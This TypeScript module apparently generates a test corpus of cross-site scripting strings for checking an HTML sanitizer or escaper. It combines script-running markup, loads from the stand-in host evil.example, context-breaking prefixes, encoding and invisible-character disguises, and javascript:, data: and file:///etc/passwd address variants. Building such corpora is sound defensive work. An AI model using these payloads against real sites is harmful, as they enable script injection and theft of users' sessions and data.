import { attacks } from './attacks.ts'

/** Markup that runs a script or asks for a file when a browser takes it as markup. */
const payloads: readonly string[] = [
  '<script>alert(1)</script>',
  '<script src=https://evil.example/x.js></script>',
  '<script type=module>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=https://evil.example/x.png>',
  '<img srcset="https://evil.example/x.png 1x" onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x">',
  '<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>',
  '<iframe src=javascript:alert(1)></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data=https://evil.example/x.swf></object>',
  '<embed src=https://evil.example/x.swf>',
  '<video src=https://evil.example/x.mp4 onerror=alert(1)></video>',
  '<audio><source src=x onerror=alert(1)></audio>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)><option>x</select>',
  '<details open ontoggle=alert(1)>x</details>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>*{background:url(https://evil.example/x.png)}</style>',
  '<style>@keyframes x{}</style><p style="animation:x 1ms" onanimationstart=alert(1)>x',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<base href=https://evil.example/>',
  '<form action=https://evil.example/><button formaction=javascript:alert(1) autofocus onfocus=alert(1)>x</button></form>',
  '<template shadowrootmode=open><img src=x onerror=alert(1)></template>',
]

/** Ways out of where words may have been put. */
const breakers: readonly string[] = [
  '',
  '">',
  "'>",
  '` >',
  ' x=">',
  '-->',
  '--!>',
  ']]>',
  '</title>',
  '</style>',
  '</script>',
  '</textarea></select></template>',
  '</noscript></xmp></noembed></iframe>',
  '</a></p></td></table></main>',
]

/** Ways into what a careless writer may open or leave open. */
const openers: readonly ((payload: string) => string)[] = [
  (payload) => `<!--${payload}`,
  (payload) => `<![CDATA[${payload}]]>`,
  (payload) => `<a title="${payload}`,
  (payload) => `<textarea>${payload}`,
  (payload) => `<noscript><p title="</noscript>${payload}">`,
  (payload) => `<svg></p><style><a id="</style>${payload}">`,
  (payload) => `{{${payload}}}`,
  (payload) => `\${${payload}}`,
  (payload) => `<%= ${payload} %>`,
]

const inReferences =
  (write: (code: number) => string) =>
  (text: string): string =>
    text.replace(/[<>"'=()]/g, (sign) => write(sign.codePointAt(0) ?? 0))

const between =
  (sign: string) =>
  (text: string): string =>
    text.replace(/<(\/?)/g, `<$1${sign}`).replace(/\bon(?=[a-z])/g, `on${sign}`)

/** The same markup as something else that a browser, a server or a database may turn back into markup. */
const disguises: readonly ((text: string) => string)[] = [
  (text) => text.toUpperCase(),
  (text) => text.replaceAll(' ', '/'),
  (text) => text.replaceAll(' ', '\n'),
  (text) => text.replaceAll(' ', '\f'),
  inReferences((code) => `&#${code};`),
  inReferences((code) => `&#x${code.toString(16)};`),
  inReferences((code) => `&#0000${code}`),
  inReferences((code) => `&amp;#${code};`),
  inReferences((code) => `%${code.toString(16)}`),
  inReferences((code) => `\\u00${code.toString(16)}`),
  inReferences((code) => `\\${code.toString(16)} `),
  inReferences((code) => String.fromCodePoint(code + 0xfee0)),
  (text) => `+ADw-${text.slice(1).replaceAll('<', '+ADw-').replaceAll('>', '+AD4-')}`,
  between('\u0000'),
  between('\u00ad'),
  between('\u200d'),
  between('\ud800'),
  between('\u202e'),
  (text) => `\u2066${text}\ufeff`,
]

const schemes = [
  'javascript:alert(1)',
  'vbscript:alert(1)',
  'data:text/html,<script>parent.alert(1)</script>',
  'blob:https://evil.example/x',
  'file:///etc/passwd',
]

/** Ways of writing an address that a browser may read as the scheme it begins with. */
const addresses: readonly ((address: string) => string)[] = [
  (address) => address,
  (address) => address.toUpperCase(),
  (address) => ` ${address}`,
  (address) => `\u0001${address}`,
  (address) => `\u00a0\u3000${address}`,
  (address) => `${address.slice(0, 4)}\t${address.slice(4)}`,
  (address) => `${address.slice(0, 4)}\r\n${address.slice(4)}`,
  (address) => `${address.slice(0, 4)}\u0000${address.slice(4)}`,
  (address) => address.replace(':', '&colon;'),
  (address) => address.replace(':', '&#58;'),
  (address) => address.replace(':', '%3A'),
  (address) => address.replace(':', '\uff1a'),
  (address) => `https://exemple.nc/${address}`,
  (address) => `mailto:a@exemple.nc?body=${address}`,
  (address) => `tel:${address}`,
  (address) => `view-source:${address}`,
]

const otherAddresses: readonly string[] = [
  '//evil.example/x',
  '\\\\evil.example\\x',
  '/\\evil.example/x',
  'https:evil.example',
  'https://exemple.nc@evil.example/',
  'https://evil.example\u3002nc/',
  'ht\ttps://evil.example/',
  'http://[::1]/"onmouseover="alert(1)',
]

/** Every sign that is no letter and that a page may not show: controls, formats, separators, halves of pairs, signs that aren't characters. */
const signs: readonly number[] = [
  ...Array.from({ length: 32 }, (_, code) => code),
  ...Array.from({ length: 33 }, (_, index) => 0x7f + index),
  0xad,
  0x61c,
  0x180e,
  0x200b,
  0x200c,
  0x200d,
  0x200e,
  0x200f,
  0x2028,
  0x2029,
  0x202a,
  0x202b,
  0x202c,
  0x202d,
  0x202e,
  0x2060,
  0x2066,
  0x2067,
  0x2068,
  0x2069,
  0x206f,
  0xd800,
  0xdbff,
  0xdc00,
  0xdfff,
  0xfdd0,
  0xfeff,
  0xfff9,
  0xfffb,
  0xfffd,
  0xffff,
  0xe0001,
  0xe0041,
]

const long = 100_000

/** Words of 100 KB: what is long in one letter is longer in references. */
export const longWords: readonly string[] = [
  'a',
  '<',
  '&',
  '"',
  "'",
  'é',
  'W',
  ')',
  '\u0000',
  '\ud800',
  '\u202e',
  '\u{1d54f}',
  '- ',
  '[a](',
  ' ',
  '\n',
].map((sign) => sign.repeat(Math.ceil(long / sign.length)))

/** At least five hundred texts that have broken pages, or could: every way out and every disguise with every kind of payload. */
export const corpus: readonly string[] = [
  ...new Set([
    ...attacks.filter((attack) => attack.length < 10_000),
    ...breakers.flatMap((breaker) => payloads.map((payload) => breaker + payload)),
    ...openers.flatMap((open, index) => payloads.filter((_, at) => at % openers.length === index).map(open)),
    ...disguises.flatMap((disguise, index) => payloads.filter((_, at) => at % 4 === index % 4).map(disguise)),
    ...schemes.flatMap((scheme) => addresses.map((address) => address(scheme))),
    ...otherAddresses,
    ...signs.map((code) => `mot${String.fromCodePoint(code)}<b>${String.fromCodePoint(code)}`),
  ]),
]
